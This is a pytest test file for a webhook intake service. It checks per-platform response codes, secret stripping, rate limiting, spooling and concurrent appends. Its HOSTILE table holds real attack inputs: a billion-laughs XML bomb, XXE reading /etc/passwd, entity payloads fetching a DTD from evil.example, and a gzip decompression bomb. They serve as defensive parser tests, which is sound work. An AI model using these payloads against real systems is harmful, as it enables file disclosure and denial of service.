"""The door: what each platform is answered in each situation, what is kept, and what hostile bodies come to."""

import asyncio
import gzip
import json
import threading
import time
import tracemalloc
import zlib
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from schemas.errors import NotUnderstood
from schemas.strict_json import loads
from tests.fixtures.aside import run_aside
from tests.fixtures.sources import NOW, SECRETS, SOURCES, Intake, open_intake, post, posts
from tests.worker.test_intake_proofs import ready, source_of
from worker.entry import Entry
from worker.incoming import read_entry
from worker.intake import answers, bodies, translating
from worker.intake.answers import TABLE, row
from worker.intake.platforms import PLATFORMS
from worker.intake.request import Request, make
from worker.intake.room import NoRoomError, Room
from worker.queue import Fields

TOKEN = {"X-Tasuki-Token": SECRETS["TASUKI_SECRET"]}
URL = "https://leads.example.com/intake/zapier"


@pytest.fixture
def intake(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Intake:
    opened = open_intake(tmp_path)
    monkeypatch.setattr(translating, "registry", lambda: opened.desk.registry)
    return opened


def zap(body: bytes | dict[str, Any], **headers: str) -> Request:
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    return make(
        "POST", URL, {**TOKEN, **{name.replace("_", "-"): value for name, value in headers.items()}}, raw
    )


def entry_of(fields: Fields, number: int = 0) -> Entry:
    """Return the stream entry that fields become."""
    found = {
        name.encode(): value.encode() if isinstance(value, str) else value for name, value in fields.items()
    }
    at = int(NOW.timestamp() * 1000) + 60_000 + number
    return Entry(f"{at}-0", at, found)


@pytest.mark.parametrize("name", posts())
def test_sample_is_kept_and_answered(intake: Intake, name: str) -> None:
    """Each sample is answered 200 and waits in the stream, with the platform that reads it."""
    request, at = ready(name)
    answer = intake.accept(source_of(name), request, at)
    assert (answer.status, answer.outcome) == (200, "accepted")
    (kept,) = intake.stream.entries
    assert kept["source"] == {
        "segment-batch": "segment",
        "hubspot-workflow": "hubspot",
        "marketo-stream": "marketo",
    }.get(source_of(name), source_of(name))
    assert kept["received_ms"] == str(int(at.timestamp() * 1000))
    if not name.startswith(("salesforce", "cloudevents/binary")):
        assert kept["payload"] == request.body
    items = read_entry(entry_of(kept))
    assert [item.problem for item in items] == [None] * len(items)
    assert items


def test_soap_is_acknowledged_and_its_session_is_not_kept(intake: Intake) -> None:
    """Salesforce repeats what is not acknowledged; a session by which anybody could act there is left out."""
    request, at = ready("salesforce/lead.outbound-message.ja.headers.json")
    body = request.body.replace(
        b"<OrganizationId>", b"<SessionId>00Dsecret!session</SessionId><OrganizationId>"
    )
    answer = intake.accept("salesforce", Request("POST", request.url, request.headers, body), at)
    assert answer.headers["Content-Type"].startswith("text/xml")
    assert b"<Ack>true</Ack>" in answer.body
    assert b"http://soap.sforce.com/2005/09/outbound" in answer.body
    assert b"secret!session" not in intake.stream.entries[0]["payload"]


def test_a_mark_before_utf_8_is_no_reason_to_refuse(intake: Intake) -> None:
    """Salesforce has its Ack, and a mapped source's events are understood."""
    request, at = ready("salesforce/lead.outbound-message.ja.headers.json")
    marked = Request("POST", request.url, request.headers, b"\xef\xbb\xbf" + request.body)
    assert b"<Ack>true</Ack>" in intake.accept("salesforce", marked, at).body
    zap = b'\xef\xbb\xbf{"id": "1", "email": "hanako@example.co.jp", "time": "2026-11-24T10:00:00+09:00"}'
    token = {"X-Tasuki-Token": SECRETS["TASUKI_SECRET"]}
    assert intake.accept("zapier", make("POST", URL, token, zap)).outcome == "accepted"


def test_secrets_in_a_payload_are_not_kept(intake: Intake) -> None:
    """Google's key proves the sender and is then taken out."""
    lead = {"lead_id": "L-1", "google_key": SECRETS["TASUKI_SECRET"], "is_test": False,
            "user_column_data": [{"column_id": "EMAIL", "string_value": "hanako@example.co.jp"}]}  # fmt: skip
    assert intake.accept("google", make("POST", URL, {}, json.dumps(lead).encode())).status == 200
    assert SECRETS["TASUKI_SECRET"].encode() not in intake.stream.entries[0]["payload"]


def test_unproven_senders_leave_nothing_but_a_count(intake: Intake) -> None:
    """Nothing of the payload is kept, and the answer does not say what was wrong."""
    for source in [*intake.desk.registry.current().sources, "no-such-source"]:
        answer = intake.accept(source, make("POST", URL, {}, b'{"email":"secret.person@example.co.jp"}'))
        assert answer.status == 401
        document = json.loads(answer.body)
        assert answer.headers["Content-Type"] == "application/problem+json"
        assert document["detail"] == "the sender did not prove itself"
        assert document["type"] == "urn:tasuki:problem:unproven"
    assert intake.stream.entries == []
    assert intake.spool.waiting().bytes == 0
    counts = intake.desk.tally.take()
    assert sum(counts.values()) == len(intake.desk.registry.current().sources) + 1
    assert ("unknown", "unproven", "there is no such source") in counts
    assert not any("person" in word for name in counts for word in name)


def test_a_refusal_while_the_sources_cannot_be_read_is_counted_once(tmp_path: Path) -> None:
    """Whatever the source is called, for it is a stranger's word."""
    intake = open_intake(tmp_path, "sources: [")
    assert intake.accept("hubspot", zap({"id": "1"})).status == 503
    assert [(key[:2], count) for key, count in intake.desk.tally.take().items()] == [(("unknown", "away"), 1)]


def test_unknown_and_disabled_sources_answer_alike(tmp_path: Path) -> None:
    """Nothing tells a stranger which names there are."""
    text = SOURCES.replace("zapier: {platform: zapier,", "zapier: {platform: zapier, enabled: false,")
    intake = open_intake(tmp_path, text)
    off, unknown = intake.accept("zapier", zap({"id": "1"})), intake.accept("nobody", zap({"id": "1"}))
    assert (off.status, off.headers, off.body) == (unknown.status, unknown.headers, unknown.body)


# Platform, situation -> status; what is not here is the row of DEFAULT.
STATUSES: list[tuple[str, str, int | None]] = [
    ("hubspot", "unfit", 200), ("mautic", "unfit", 200), ("salesforce", "unfit", 200), ("calendly", "unfit", 200),
    ("customerio", "unfit", 200), ("intercom", "unfit", 200), ("cloudevents", "unfit", 422),
    ("standard_webhooks", "unfit", 422), ("brevo", "away", 429), ("hubspot", "away", 503), ("segment", "away", 503),
    ("typeform", "away", 503), ("marketo", "too_many", None), ("activecampaign", "too_many", None),
    ("mautic", "too_many", None), ("hubspot", "too_many", 429), ("brevo", "too_many", 429),
]  # fmt: skip


@pytest.mark.parametrize("platform, situation, status", STATUSES)
def test_status_by_platform_and_situation(platform: str, situation: Any, status: int | None) -> None:
    """The table says what research/ma-platforms.md found."""
    assert row(platform, situation).status == status


@pytest.mark.parametrize("platform", PLATFORMS)
def test_no_platform_is_switched_off_by_accident(platform: str) -> None:
    """404 and 410 stand nowhere, 401 only for the unproven, and each row has its reason."""
    for situation in answers.DEFAULT:
        found = row(platform, situation)
        assert found.status not in (404, 410)
        assert (found.status == 401) == (situation == "unproven")
        assert found.why
    assert row(platform, "accepted").status == 200


def test_table_names_known_platforms_only() -> None:
    """A row for a platform that nobody can configure would never be used."""
    assert TABLE.keys() <= PLATFORMS.keys()


@pytest.mark.parametrize(
    "source, sample, status, retry_after",
    [
        ("hubspot", "hubspot/contact.creation.headers.json", 503, "5000"),  # milliseconds
        ("mautic", "mautic/form_on_submit.ja.headers.json", 503, "5"),
        ("brevo", None, 429, "5"),
        ("zapier", None, 503, "5"),
    ],
)
def test_nowhere_to_keep_it(
    tmp_path: Path, source: str, sample: str | None, status: int, retry_after: str
) -> None:
    """With Valkey away and the spool full the sender is told to come again, in its own way."""
    intake = open_intake(tmp_path, max_bytes=1)
    intake.stream.is_away = True
    request, at = ready(sample) if sample else (zap({"id": "1", "event": "opened"}), NOW)
    answer = intake.accept(source, request, at)
    assert (answer.status, answer.headers["Retry-After"]) == (status, retry_after)
    assert json.loads(answer.body)["status"] == status


def test_away_goes_to_the_spool_and_is_answered_as_accepted(intake: Intake) -> None:
    """While Valkey is away events are safe on this disk, and come to the stream as they were accepted."""
    intake.stream.is_away = True
    for number in range(5):
        assert intake.accept("zapier", zap({"id": str(number), "email": "a@example.com"})).status == 200
    assert intake.stream.entries == []
    assert intake.spool.waiting().bytes > 0
    intake.stream.is_away = False
    until = time.monotonic() + 10
    while len(intake.stream.entries) < 5 and time.monotonic() < until:
        time.sleep(0.02)
    assert [json.loads(one["payload"])["id"] for one in intake.stream.entries] == list("01234")
    assert {one["received_ms"] for one in intake.stream.entries} == {b"%d" % (NOW.timestamp() * 1000)}
    intake.keeper.close()
    assert intake.spool.waiting().segments == 0


def test_concurrent_requests_share_appends(tmp_path: Path) -> None:
    """What comes while one append runs goes with the next: many requests, few round trips, none twice."""
    intake = open_intake(tmp_path, SOURCES.replace("zapier: {", "zapier: {burst: 1000, "))
    quick = intake.stream.append

    def slow(entries: list[Fields]) -> list[str]:
        time.sleep(0.05)
        return quick(entries)

    intake.stream.append = slow  # type: ignore[method-assign]
    intake.keeper._append = slow
    threads = [
        threading.Thread(
            target=intake.accept, args=("zapier", zap({"id": str(number), "email": "a@example.com"}))
        )
        for number in range(60)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(int(json.loads(one["payload"])["id"]) for one in intake.stream.entries) == list(range(60))
    assert len(intake.stream.groups) < 20


def test_stream_that_hangs_is_left_for_the_spool_in_time(tmp_path: Path) -> None:
    """Within 3 s always: whoever waits for a stream that does not come back is kept on disk."""
    intake = open_intake(tmp_path)
    hung = threading.Event()
    intake.keeper._stream._commit = lambda _: hung.wait(30)
    started = time.monotonic()
    assert intake.accept("zapier", zap({"id": "1", "email": "a@example.com"})).status == 200
    assert time.monotonic() - started < 3.0
    second = time.monotonic()
    assert intake.accept("zapier", zap({"id": "2", "email": "a@example.com"})).status == 200
    assert time.monotonic() - second < 1.0  # the stream rests meanwhile
    assert intake.spool.waiting().bytes > 0 or len(intake.stream.entries) == 2
    hung.set()


def test_rate_is_the_proven_senders_own(tmp_path: Path) -> None:
    """The bucket empties and fills again; strangers draw nothing from it; whoever never repeats is never refused."""
    at = [0.0]
    text = SOURCES.replace("zapier: {", "zapier: {per_second: 2, burst: 3, ").replace(
        "marketo: {", "marketo: {per_second: 1, burst: 1, "
    )
    intake = open_intake(tmp_path, text, clock=lambda: at[0])
    stranger = make("POST", URL, {"X-Tasuki-Token": "wrong"}, b"{}")
    assert {intake.accept("zapier", stranger).status for _ in range(20)} == {401}
    statuses = [intake.accept("zapier", zap({"id": str(number)})).status for number in range(5)]
    assert statuses == [200, 200, 200, 429, 429]
    at[0] = 0.5
    assert [intake.accept("zapier", zap({"id": "x"})).status for _ in range(2)] == [200, 429]
    request, received = ready("marketo/webhook.lead-template.headers.json")
    assert {intake.accept("marketo", request, received).status for _ in range(5)} == {200}


def test_too_many_at_a_time_are_told_to_come_again(intake: Intake) -> None:
    """Only so many bodies, and so many bytes of them, are in hand; there is room again when one leaves."""
    assert intake.desk.refuse("zapier", "away", "full").status == 503
    assert intake.desk.refuse("brevo", "away", "full").status == 429
    room = Room(most=3, most_bytes=1_000)
    with room.hold() as one, room.hold() as two:
        with room.hold() as three:
            for share in (one, two, three):
                share.grow(10)
            with pytest.raises(NoRoomError), room.hold():
                pass
        with room.hold() as three:
            with pytest.raises(NoRoomError):
                three.grow(981)
            three.grow(980)
            three.grow(0)
    with room.hold() as one:
        one.grow(5_000)  # alone, whatever its size
        with pytest.raises(NoRoomError), room.hold():
            pass
    assert (room._requests, room._bytes) == (0, 0)


def test_coroutines_share_appends_and_none_waits_for_ever(tmp_path: Path) -> None:
    """Many requests of one event loop: few round trips; a stream that hangs is left for the spool in time."""
    intake = open_intake(tmp_path)
    quick, hung = intake.stream.append, threading.Event()

    def slow(entries: list[Fields]) -> list[str]:
        time.sleep(0.02)
        return quick(entries)

    async def many(first: int) -> set[str]:
        entries = [
            [{"number": str(number)}, {"number": f"{number}b"}] for number in range(first, first + 100)
        ]
        return set(await asyncio.gather(*(intake.keeper.keep_soon(*two) for two in entries)))

    intake.keeper._append = slow
    assert run_aside(many(0)) == {"stream"}
    assert sorted(one["number"] for one in intake.stream.entries) == sorted(
        f"{number}{part}" for number in range(100) for part in ("", "b")
    )
    assert len(intake.stream.groups) < 10
    intake.keeper._append = lambda _: hung.wait(30)
    started = time.monotonic()
    assert run_aside(many(100)) == {"spool"}
    assert time.monotonic() - started < 3.0
    intake.keeper._append = quick
    hung.set()


XML_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><lolz>&c;</lolz>'
)
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
#: What a proven sender may send, and why it is unfit.
HOSTILE: dict[str, bytes] = {
    "nested 100,000 deep": b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "objects 100,000 deep": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "never closed": b"[" * 100_000,
    "duplicate keys": b'{"id":"1","email":"a@example.com","email":"b@example.com"}',
    "NaN": b'{"id":"1","amount":NaN}',
    "1e999": b'{"id":"1","amount":1e999}',
    "5,000 digits": b'{"id":' + b"1" * 5_000 + b"}",
    "U+0000": b'{"id":"a\\u0000b"}',
    "lone surrogate": b'{"id":"\\ud800"}',
    "surrogate in UTF-8": b'{"id":"\xed\xa0\x80"}',
    "UTF-16": '{"id":"1"}'.encode("utf-16"),
    "Shift_JIS": '{"id":"佐藤"}'.encode("shift_jis"),
    "overlong UTF-8": b'{"id":"\xc0\xaf"}',
    "trailing comma": b'{"id":"1",}',
    "two documents": b'{"id":"1"}{"id":"2"}',
    "comment": b'{"id":"1"/*x*/}',
    "empty": b"",
    "billion laughs": XML_BOMB,
    "external entity": XXE,
    "parameter entity": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><x/>',
    "external DTD": b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    "XML 10,000 deep": b"<a>" * 10_000 + b"</a>" * 10_000,
    "XML not closed": b"<a><b></a>",
    "form with 5,000 fields": b"&".join(b"f%d=1" % number for number in range(5_000)),
    "form key twice": b"a=1&a=2",
    "form that is both": b"a=1&a[b]=2",
    "form not UTF-8": b"a=%ff%fe",
    "300,000 values": b"[" + b",".join(b"1" for _ in range(300_000)) + b"]",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_body_of_a_proven_sender_is_kept_and_understood_by_nobody(intake: Intake, name: str) -> None:
    """It is answered 200, so that nobody repeats it or switches off, and the worker quarantines it with its reason."""
    answer = intake.accept("zapier", zap(HOSTILE[name]))
    assert (answer.status, answer.outcome) == (200, "unfit")
    (item,) = read_entry(entry_of(intake.stream.entries[0]))
    assert item.problem is not None
    assert item.raw == HOSTILE[name]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_body_of_ones_own_program_is_told(intake: Intake, name: str) -> None:
    """A producer that speaks CloudEvents reads the answer: 422 with the place, and nothing is kept."""
    answer = intake.accept("cloudevents", zap(HOSTILE[name]))
    assert answer.status == 422
    assert answer.headers["Content-Type"] == "application/problem+json"
    assert json.loads(answer.body)["type"] == "urn:tasuki:problem:unfit"
    assert intake.stream.entries == []


def test_ten_megabytes_are_refused_before_any_work(intake: Intake) -> None:
    """Too large is 413, whoever sends it; nothing is kept."""
    answer = intake.accept("zapier", zap(b"x" * 10_000_000))
    assert answer.status == 413
    assert (
        json.loads(answer.body)["title"] == "Request Entity Too Large"
        or "Too Large" in json.loads(answer.body)["title"]
    )
    assert intake.accept("zapier", zap(b'{"id":"' + b"x" * (1024 * 1024 - 9) + b'"}')).status == 200
    assert intake.accept("zapier", zap(b'{"id":"' + b"x" * (1024 * 1024 - 8) + b'"}')).status == 413


@pytest.mark.parametrize("coding", ["gzip", "deflate"])
def test_bomb_is_given_up_at_the_limit(intake: Intake, coding: str) -> None:
    """A gigabyte in a megabyte is never unpacked."""
    packer = zlib.compressobj(9, wbits=31 if coding == "gzip" else 15)
    bomb = b"".join(packer.compress(b"\0" * 1_000_000) for _ in range(500)) + packer.flush()
    assert len(bomb) < 1024 * 1024
    tracemalloc.start()
    answer = intake.accept("zapier", zap(bomb, Content_Encoding=coding))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert answer.status == 413
    assert peak < 8_000_000


def test_codings(intake: Intake) -> None:
    """gzip is unpacked and kept plain; an unknown coding is 415; a broken one is unfit."""
    body = b'{"id":"1","email":"a@example.com"}'
    assert intake.accept("zapier", zap(gzip.compress(body), Content_Encoding="gzip")).status == 200
    assert intake.stream.entries[0]["payload"] == body
    assert intake.accept("zapier", zap(body, Content_Encoding="br")).status == 415
    assert intake.accept("zapier", zap(body, Content_Encoding="gzip, gzip")).status == 415
    assert intake.accept("zapier", zap(gzip.compress(body)[:-4], Content_Encoding="gzip")).outcome == "unfit"
    assert intake.accept("zapier", zap(gzip.compress(body) * 2, Content_Encoding="gzip")).outcome == "unfit"


def test_every_refusal_is_a_problem_document(intake: Intake) -> None:
    """Each limit is answered with its status and RFC 9457."""
    wanted = {
        413: zap(b"x" * 2_000_000),
        415: zap(b"{}", Content_Encoding="br"),
        401: make("POST", URL, {}, b"{}"),
        405: make("PUT", URL, TOKEN, b"{}"),
    }
    for status, request in wanted.items():
        answer = intake.accept("zapier", request)
        assert answer.status == status
        assert answer.headers["Content-Type"] == "application/problem+json"
        document = json.loads(answer.body)
        assert document["status"] == status
        assert document["type"].startswith("urn:tasuki:problem:")
    assert intake.accept("zapier", wanted[405]).headers["Allow"] == "POST"


def test_cloudevents_binary_mode_is_put_together(intake: Intake) -> None:
    """Attributes from headers, data from the body; what is not JSON goes in as base64."""
    request, at = ready("cloudevents/binary.headers.json")
    intake.accept("cloudevents", request, at)
    document = loads(bytes(intake.stream.entries[0]["payload"]))  # type: ignore[arg-type]
    assert document["data"] == json.loads(request.body)
    assert document["subject"] == "リード/9001"
    plain = make("POST", URL, request.headers, b"plain text")
    intake.accept("cloudevents", plain, at)
    assert loads(bytes(intake.stream.entries[1]["payload"]))["data_base64"] == "cGxhaW4gdGV4dA=="  # type: ignore[arg-type]


def test_test_traffic_changes_nothing(intake: Intake) -> None:
    """Answered 2xx, and no event comes of it."""
    test_lead = {
        "lead_id": "T",
        "google_key": SECRETS["TASUKI_SECRET"],
        "is_test": True,
        "user_column_data": [],
    }
    assert intake.accept("google", make("POST", URL, {}, json.dumps(test_lead).encode())).status == 200
    assert read_entry(entry_of(intake.stream.entries[0])) == []


def test_decode_never_raises_but_what_it_says() -> None:
    """Every hostile body, in every format."""
    told = []
    for body in HOSTILE.values():
        for kind in ("json", "form", "xml"):
            try:
                bodies.decode(body, kind, bodies.Limits(fields=1_000))
            except NotUnderstood as problem:
                told.append(problem)
    assert len(told) > len(HOSTILE)
    assert all(problem.place and problem.mend for problem in told)


def test_xml_and_forms_are_read(intake: Intake) -> None:
    """A mapping reads them as trees: attributes, repeated elements, bracketed keys, Japanese text."""
    tree = bodies.decode('<l id="7"><名>花子</名><t>a</t><t>b</t><e/></l>'.encode(), "xml", bodies.Limits())
    assert tree == {"l": {"@id": "7", "名": "花子", "t": ["a", "b"], "e": None}}
    assert bodies.decode(b"a[b]=%E8%8A%B1&c=1", "form", bodies.Limits()) == {"a": {"b": "花"}, "c": "1"}


def test_replay_outside_the_window_is_refused_and_inside_is_the_same_event(intake: Intake) -> None:
    """The signature stops the late replay, the event's id the early one."""
    one = post("hubspot/contact.creation.headers.json")
    assert intake.accept("hubspot", one.request, one.received_at + timedelta(seconds=301)).status == 401
    for seconds in (0, 60):
        assert (
            intake.accept("hubspot", one.request, one.received_at + timedelta(seconds=seconds)).status == 200
        )
    first, second = (read_entry(entry_of(kept)) for kept in intake.stream.entries)
    assert [(item.source, item.event_id, item.raw) for item in first] == [
        (item.source, item.event_id, item.raw) for item in second
    ]
